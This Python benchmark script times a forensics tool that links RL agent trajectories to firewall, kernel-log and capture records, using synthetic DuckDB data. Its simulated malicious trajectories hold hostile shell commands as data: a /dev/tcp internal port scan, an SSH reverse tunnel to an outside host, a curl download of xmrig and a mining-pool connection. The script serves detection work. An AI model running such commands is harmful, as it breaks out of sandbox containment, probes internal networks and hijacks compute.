"""Correlation scale benchmark: the whole link stage (clock skew, staging, every link rule,
incidents and their answers, unattributed, invariants) over the sample story scaled up, at N, 2N
and 4N, against the named baseline measured in the same run: the textbook way of lining up
firewall timestamps against RL traces in SQL, a time-window join of every agent step with every
network record in its window, then the records its sandbox sent or received (a range join with
no single equality key: it grows with the square of the event density).

    .venv/bin/python benchmarks/bench_correlate.py 2500000 5000000 10000000 [--baseline-max 1250000]

The argument is the number of network events; agent steps are a tenth of it (1M steps at 10M
events). The tables are synthesised directly in DuckDB, shaped like sample_logs/: nodes with a
sandbox per trajectory (leases in entities), each trajectory ten steps of which a few reach the
network (pip over TLS), every connection seen by the node's kernel log (its own clock, whole
seconds; one node 4.2 s slow) and by the cloud firewall (EIP and private address), one node's
connections also in a capture (flows); monitoring sweeps into every node and an inbound brute
force; and one malicious trajectory per 2,500 (a probe of 40 addresses x 5 ports, a reverse
tunnel, a download and a miner connection, with agent_actions). The time span is fixed (6 h), so
density grows with N. Each size runs in its own process (peak RSS is its own) with DuckDB's
memory_limit at 3 GB; cases go to benchmarks/data/ (git-ignored) and are deleted afterwards.
"""

from __future__ import annotations

import argparse
import json
import resource
import subprocess
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "benchmarks" / "data"
sys.path.insert(0, str(ROOT))

NODES = 16
SPAN_S = 6 * 3600
MALICIOUS_EVERY = 2500


def build(path: Path, events: int) -> dict:
    """Write a case with about ``events`` network events and events/10 agent steps."""
    from forensics import Case

    steps = events // 10
    trajectories = steps // 10
    with Case(path, memory_limit="3GB", tmp_dir=str(DATA / "tmp")) as case:
        con = case.con
        con.execute("SET preserve_insertion_order = false")
        params = {"nodes": NODES, "span": SPAN_S, "trajectories": trajectories, "every": MALICIOUS_EVERY}
        sql = [
            # evidence: one kernel log per node, the cloud firewall, one capture, the rollouts
            """INSERT INTO evidence (evidence_id, path, format, parser, status)
               SELECT n, 'nodes/node-' || n || '/kern.log', 'netfilter', 'netfilter', 'parsed' FROM range(1, $nodes + 1) t(n)
               UNION ALL SELECT 100, 'cloudfirewall/dump.json', 'alibaba_cloudfw', 'alibaba_cloudfw', 'parsed'
               UNION ALL SELECT 101, 'pcap/node-3.pcap', 'pcap', 'pcap', 'parsed'
               UNION ALL SELECT 102, 'trajectories/rollouts.jsonl', 'openai_chat', 'openai_chat', 'parsed'
               UNION ALL SELECT 103, 'inventory.yaml', 'inventory', 'inventory', 'parsed'""",
            """INSERT INTO entities (kind, value, attributes, source, evidence_id, locator)
               VALUES ('network', '10.20.0.0/16', '{"zone": "internal"}', 'inventory', 103, 'networks[0]'),
                      ('network', '10.100.0.0/14', '{"zone": "internal"}', 'inventory', 103, 'networks[1]')""",
            """INSERT INTO entities (kind, value, host, attributes, source, evidence_id, locator)
               SELECT 'host', 'node-' || n, 'node-' || n, '{"role": "gpu-node"}', 'inventory', 103, 'hosts[' || n || ']'
               FROM range(1, $nodes + 1) t(n)
               UNION ALL SELECT 'ip', '10.20.1.' || n, 'node-' || n, '{}', 'inventory', 103, 'hosts[' || n || '].ip'
               FROM range(1, $nodes + 1) t(n)
               UNION ALL SELECT 'public_ip', '198.51.100.' || n, 'node-' || n, '{}', 'inventory', 103, 'hosts[' || n || '].eip'
               FROM range(1, $nodes + 1) t(n)
               UNION ALL SELECT 'host', 'monitor-01', 'monitor-01', '{"role": "monitoring"}', 'inventory', 103, 'hosts[99]'
               UNION ALL SELECT 'ip', '10.20.0.5', 'monitor-01', '{}', 'inventory', 103, 'hosts[99].ip'""",
            # trajectories: each on a node, its own sandbox address, 10 steps 30 s apart
            """CREATE TEMP TABLE traj AS
               SELECT t, 'traj-' || lpad(t::VARCHAR, 7, '0') AS trajectory_id, 'sbx-' || t AS sandbox,
                      1 + t % $nodes AS node,
                      '10.' || (100 + t // 65536) || '.' || (t // 256 % 256) || '.' || (t % 256) AS ip,
                      TIMESTAMPTZ '2026-02-17 00:00:00+00' + to_seconds(CAST(t * ($span - 400) / $trajectories AS BIGINT)) AS start,
                      t % $every = 7 AS malicious
               FROM range($trajectories) r(t)""",
            """INSERT INTO entities (kind, value, host, job, sandbox, valid_from, valid_to, attributes, source, evidence_id, locator)
               SELECT k.kind, CASE k.kind WHEN 'trajectory' THEN trajectory_id WHEN 'sandbox' THEN sandbox ELSE ip END,
                      'node-' || node, 'rl-run', sandbox, start, start + INTERVAL 330 SECOND,
                      CASE k.kind WHEN 'trajectory' THEN json_object('run_id', 'rl-run', 'sandbox_ip', ip)
                                  ELSE json_object('ip', ip) END,
                      'openai_chat', 102, 'traj:' || trajectory_id
               FROM traj, (VALUES ('trajectory'), ('sandbox'), ('ip')) k(kind)""",
            """INSERT INTO agent_steps (source_format, run_id, trajectory_id, step, call_index, ts, ts_end, ts_basis,
                   sandbox, sandbox_ip, host, role, action, tool, command, exit_code, evidence_id, locator)
               SELECT 'openai_chat', 'rl-run', trajectory_id, k, 0, start + to_seconds(k * 30),
                      start + to_seconds(k * 30 + 2), 'absolute', sandbox, ip, 'node-' || node, 'assistant', 'exec', 'bash',
                      CASE WHEN malicious AND k = 4 THEN 'for h in $(seq 1 40); do for p in 22 80 443 6379 8080; do timeout 0.3 bash -c "</dev/tcp/10.20.1.$h/$p"; done; done'
                           WHEN malicious AND k = 5 THEN 'ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50'
                           WHEN malicious AND k = 6 THEN 'curl -sSL -o x.tgz http://dl.example.net/xmrig.tar.gz'
                           WHEN malicious AND k = 7 THEN 'nohup ./xmrig -o stratum+tcp://xmr.pool.example.com:3333 -u 45wallet &'
                           WHEN k % 3 = 0 THEN 'pip install -q pkg' || (t % 97)
                           ELSE 'python -m pytest -q tests/test_' || k || '.py' END,
                      0, 102, 'line:' || t || ' traj:' || trajectory_id || ' step:' || k
               FROM traj, range(1, 11) s(k)""",
            """INSERT INTO agent_actions (run_id, trajectory_id, step, call_index, ts, category, technique, indicator_kind,
                   indicator_value, ip, ip_end, hostname, port, detail, basis, confidence, evidence_id, locator)
               SELECT 'rl-run', trajectory_id, a.k, 0, start + to_seconds(a.k * 30), a.category, a.technique, a.kind, a.value,
                      a.ip, a.ip_end, a.hostname, a.port, a.detail, 'parsed', 0.9, 102,
                      'line:' || t || ' traj:' || trajectory_id || ' step:' || a.k
               FROM traj, (VALUES
                   (4, 'scan', 'dev_tcp_probe', 'ip_range', '10.20.1.1-10.20.1.40', '10.20.1.1', '10.20.1.40', NULL, NULL, NULL),
                   (4, 'scan', 'dev_tcp_probe', 'port', '22', NULL, NULL, NULL, 22, NULL),
                   (4, 'scan', 'dev_tcp_probe', 'port', '80', NULL, NULL, NULL, 80, NULL),
                   (4, 'scan', 'dev_tcp_probe', 'port', '443', NULL, NULL, NULL, 443, NULL),
                   (4, 'scan', 'dev_tcp_probe', 'port', '6379', NULL, NULL, NULL, 6379, NULL),
                   (4, 'scan', 'dev_tcp_probe', 'port', '8080', NULL, NULL, NULL, 8080, NULL),
                   (5, 'tunnel', 'ssh_reverse_forward', 'ip', '203.0.113.50', '203.0.113.50', NULL, NULL, 22, NULL),
                   (5, 'tunnel', 'ssh_reverse_forward', 'forward', '-R 2222:localhost:22', NULL, NULL, NULL, NULL, NULL),
                   (6, 'download_exec', 'download', 'url', 'http://dl.example.net/xmrig.tar.gz', NULL, NULL, 'dl.example.net', 80, NULL),
                   (6, 'download_exec', 'download', 'host', 'dl.example.net', NULL, NULL, 'dl.example.net', 80, NULL),
                   (7, 'mining', 'pool_url', 'url', 'stratum+tcp://xmr.pool.example.com:3333', NULL, NULL, 'xmr.pool.example.com', 3333, NULL),
                   (7, 'mining', 'wallet', 'wallet', '45wallet', NULL, NULL, NULL, NULL, 'coin=monero'),
                   (7, 'mining', 'miner_binary', 'binary', 'xmrig', NULL, NULL, NULL, NULL, NULL)
               ) a(k, category, technique, kind, value, ip, ip_end, hostname, port, detail)
               WHERE malicious""",
            # connections: every benign step with k % 3 = 0 connects out several times until the events are used up
            """CREATE TEMP TABLE conns AS
               WITH per AS (
                   SELECT t.*, k, c FROM traj t, range(3, 11, 3) s(k), range($per_step) r(c)
               )
               SELECT row_number() OVER () AS id, node, ip AS src, 30000 + (t * 7 + k * 131 + c * 17) % 30000 AS sport,
                      '192.0.2.' || (10 + c % 5) AS dst, 443 AS dport,
                      start + to_seconds(k * 30) + to_microseconds(200000 + c * 1500000
                                                                   + (t * 7919 + k * 104729 + c * 1299709) % 1000003) AS true_ts
               FROM per""",
        ]
        per_step = max(1, round((events * 0.40) / (trajectories * 3 * 2)))
        params["per_step"] = per_step
        for statement in sql:
            con.execute(statement, {k: v for k, v in params.items() if f"${k}" in statement})
        # kernel log (node clock, whole seconds; node 3 is 4.2 s slow) and cloud firewall for every connection
        con.execute("""INSERT INTO net_events (ts, ts_raw, host, src_ip, src_port, dst_ip, dst_port, proto, direction,
                           action, bytes_out, tcp_flags, rule, source_format, evidence_id, locator)
                       SELECT date_trunc('second', true_ts - CASE WHEN node = 3 THEN INTERVAL 4200 MILLISECOND ELSE INTERVAL 0 SECOND END),
                              NULL, 'node-' || node, src, sport, dst, dport, 'tcp', 'outbound', 'allow', 60, 'SYN',
                              '[SBX-EGRESS-ALLOW]', 'netfilter', node, 'line:' || id
                       FROM conns""")
        con.execute("""INSERT INTO net_events (ts, ts_end, host, src_ip, src_port, dst_ip, dst_port, proto, direction, action,
                           bytes_out, bytes_in, src_private_ip, source_format, evidence_id, locator)
                       SELECT date_trunc('second', true_ts), date_trunc('second', true_ts) + INTERVAL 2 SECOND, 'node-' || node,
                              '198.51.100.' || node, sport, dst, dport, 'tcp', 'outbound', 'allow', 5000, 90000,
                              '10.20.1.' || node, 'alibaba_cloudfw', 100, 'line:' || id
                       FROM conns""")
        con.execute("""INSERT INTO flows (ts, uid, orig_h, orig_p, resp_h, resp_p, proto, duration, orig_bytes, resp_bytes,
                           conn_state, resp_pkts, host, source_format, evidence_id, locator)
                       SELECT true_ts, 'C' || id, '10.20.1.3', sport, dst, dport, 'tcp', 1.5, 4000, 88000, 'SF', 60, 'node-3',
                              'pcap', 101, 'frame:' || id
                       FROM conns WHERE node = 3""")
        # monitoring sweeps into every node (allowed, internal) and an inbound brute force (denied)
        done = con.execute("SELECT count(*) FROM net_events").fetchone()[0]
        sweeps = max(0, events - done - 2000)
        con.execute("""INSERT INTO net_events (ts, host, src_ip, src_port, dst_ip, dst_port, proto, direction, action,
                           tcp_flags, rule, source_format, evidence_id, locator)
                       SELECT date_trunc('second', TIMESTAMPTZ '2026-02-17 00:00:00+00'
                                                   + to_microseconds(CAST(i * ($span * 1e6 / $n) AS BIGINT))),
                              'node-' || (1 + i % $nodes), '10.20.0.5', 32768 + i % 28000, '10.20.1.' || (1 + i % $nodes),
                              (ARRAY[22, 80, 443, 9100, 9400, 10250])[1 + i % 6], 'tcp', 'internal', 'allow', 'SYN',
                              'ACCEPT-NEW-IN:', 'netfilter', 1 + i % $nodes, 'sweep:' || i
                       FROM range($n) r(i)""", {"span": SPAN_S, "n": sweeps, "nodes": NODES})
        con.execute("""INSERT INTO net_events (ts, host, src_ip, src_port, dst_ip, dst_port, proto, direction, action,
                           rule, source_format, evidence_id, locator)
                       SELECT TIMESTAMPTZ '2026-02-17 01:40:00+00' + to_seconds(i), 'node-1', '203.0.113.200', 50000 + i,
                              '10.20.1.1', 22, 'tcp', 'inbound', 'deny', '[UFW BLOCK]', 'netfilter', 1, 'ufw:' || i
                       FROM range(1000) r(i)""")
        # the malicious trajectories' traffic: probe (kern.log, 40 x 5), tunnel, download, pool, with DNS answers
        con.execute("""INSERT INTO net_events (ts, host, src_ip, src_port, dst_ip, dst_port, proto, direction, action,
                           tcp_flags, rule, source_format, evidence_id, locator)
                       SELECT date_trunc('second', start + INTERVAL 120 SECOND + to_microseconds(300000 * (h * 5 + p))
                                         - CASE WHEN node = 3 THEN INTERVAL 4200 MILLISECOND ELSE INTERVAL 0 SECOND END),
                              'node-' || node, ip, 41000 + h * 5 + p, '10.20.1.' || h, (ARRAY[22, 80, 443, 6379, 8080])[p + 1],
                              'tcp', 'internal', CASE WHEN p IN (1, 2, 4) THEN 'deny' ELSE 'allow' END, 'SYN',
                              '[SBX-EGRESS]', 'netfilter', node, 'probe:' || t || ':' || h || ':' || p
                       FROM traj, range(1, 41) a(h), range(5) b(p) WHERE malicious""")
        con.execute("""INSERT INTO net_events (ts, ts_end, host, src_ip, src_port, dst_ip, dst_port, proto, direction, action,
                           bytes_out, bytes_in, src_private_ip, label, source_format, evidence_id, locator)
                       SELECT date_trunc('second', start + to_seconds(x.k * 30) + INTERVAL 300 MILLISECOND),
                              start + to_seconds(x.k * 30 + 3000), 'node-' || node, '198.51.100.' || node, 43000 + x.k,
                              x.dst, x.port, 'tcp', 'outbound', CASE WHEN x.k = 7 THEN 'alert' ELSE 'allow' END, 50000, 40000,
                              '10.20.1.' || node, CASE WHEN x.k = 7 THEN 'Mining Behavior' END, 'alibaba_cloudfw', 100,
                              'evil:' || t || ':' || x.k
                       FROM traj, (VALUES (5, '203.0.113.50', 22), (6, '203.0.113.80', 80), (7, '198.51.100.77', 3333)) x(k, dst, port)
                       WHERE malicious""")
        con.execute("""INSERT INTO dns (ts, uid, host, orig_h, orig_p, resp_h, resp_p, proto, query, qtype_name, answers,
                           evidence_id, locator)
                       VALUES (TIMESTAMPTZ '2026-02-17 00:00:01+00', 'D1', 'node-3', '10.20.1.3', 53000, '10.20.0.2', 53, 'udp',
                               'dl.example.net', 'A', ['203.0.113.80'], 101, 'frame:d1'),
                              (TIMESTAMPTZ '2026-02-17 00:00:02+00', 'D2', 'node-3', '10.20.1.3', 53001, '10.20.0.2', 53, 'udp',
                               'xmr.pool.example.com', 'A', ['198.51.100.77'], 101, 'frame:d2')""")
        con.execute("CHECKPOINT")
        counts = {t: con.execute(f"SELECT count(*) FROM {t}").fetchone()[0]
                  for t in ("net_events", "flows", "agent_steps", "agent_actions", "entities")}
        counts["malicious"] = con.execute("SELECT count(*) FROM traj WHERE malicious").fetchone()[0]
    return counts


def measure(path: Path, which: str) -> dict:
    """Run one measurement in this process: ours (the link stage) or the baseline."""
    from forensics import Case

    with Case(path, memory_limit="3GB", tmp_dir=str(DATA / "tmp")) as case:
        start = time.perf_counter()
        if which == "ours":
            result = case.link()
            out = {"links": sum(result.links_by_rule.values()), "incidents": result.incidents,
                   "unattributed": result.unattributed, "violations": result.invariant_violations,
                   "node3_offset": float(case.sql("SELECT offset_s FROM clock_offsets WHERE chosen AND host = 'node-3'")
                                         .iloc[0, 0])}
        else:
            # every step against every record in its 120 s window, then the records its sandbox sent
            # or received (two addresses to compare: no single equality key, so a range join)
            rows = case.con.execute(
                """SELECT count(*) FROM agent_steps s JOIN net_events n
                   ON n.ts BETWEEN s.ts AND s.ts + INTERVAL 120 SECOND
                   WHERE n.src_ip = s.sandbox_ip OR n.dst_ip = s.sandbox_ip""").fetchone()[0]
            out = {"pairs": rows}
        out["seconds"] = round(time.perf_counter() - start, 2)
    out["peak_rss_mib"] = round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("sizes", nargs="*", type=int, default=[250_000, 500_000, 1_000_000])
    parser.add_argument("--baseline-max", type=int, default=1_250_000,
                        help="largest size the baseline runs at (it grows with the square of the density)")
    parser.add_argument("--one", nargs=3, metavar=("PATH", "WHICH", "EVENTS"), help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.one:
        path, which, events = args.one
        result = build(Path(path), int(events)) if which == "build" else measure(Path(path), which)
        print(json.dumps(result))
        return
    DATA.mkdir(parents=True, exist_ok=True)
    (DATA / "tmp").mkdir(exist_ok=True)
    rows = []
    for events in args.sizes:
        path = DATA / f"correlate-{events}.duckdb"
        path.unlink(missing_ok=True)

        def child(which: str) -> dict:
            out = subprocess.run([sys.executable, __file__, "--one", str(path), which, str(events)],
                                 check=True, capture_output=True, text=True)
            return json.loads(out.stdout.strip().splitlines()[-1])

        started = time.perf_counter()
        counts = child("build")
        built = round(time.perf_counter() - started, 1)
        ours = child("ours")
        baseline = child("baseline") if events <= args.baseline_max else None
        row = {"events": events, "counts": counts, "build_s": built, "ours": ours, "baseline": baseline}
        rows.append(row)
        print(json.dumps(row), flush=True)
        path.unlink(missing_ok=True)
    print("\n| network events | agent steps | malicious trajectories | link stage | peak RSS | baseline (window join) | links | incidents | node-3 offset |")
    print("|---|---|---|---|---|---|---|---|---|")
    previous = None
    for row in rows:
        c, o, b = row["counts"], row["ours"], row["baseline"]
        growth = f" ({o['seconds'] / previous:.2f}x)" if previous else ""
        previous = o["seconds"]
        print(f"| {c['net_events']:,} | {c['agent_steps']:,} | {c['malicious']} | {o['seconds']} s{growth} | "
              f"{o['peak_rss_mib']} MiB | {str(b['seconds']) + ' s' if b else 'not run'} | {o['links']:,} | "
              f"{o['incidents']} | {o['node3_offset']} s |")


if __name__ == "__main__":
    main()
